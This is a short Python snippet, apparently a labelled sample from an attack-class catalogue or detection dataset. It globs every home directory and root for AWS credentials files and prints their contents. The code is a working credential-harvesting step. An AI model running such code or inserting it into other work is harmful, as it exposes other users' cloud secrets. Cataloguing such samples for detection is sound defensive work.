# attack-class: 12
# title: glob.glob('/home/*/.aws/credentials')
# why: searches every home directory for cloud credentials

import glob

for path in glob.glob("/home/*/.aws/credentials") + glob.glob("/root/.aws/credentials"):
    print(path, open(path).read())
